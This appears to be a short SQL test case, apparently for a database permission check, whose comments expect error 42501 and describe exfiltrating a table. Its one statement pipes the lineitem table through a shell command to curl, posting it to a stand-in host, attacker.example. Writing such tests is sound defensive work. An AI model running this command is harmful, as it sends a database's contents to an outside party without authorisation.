-- expect: 42501
-- why: exfiltrate a table through a shell command
COPY lineitem TO PROGRAM 'curl -s --data-binary @- http://attacker.example/'
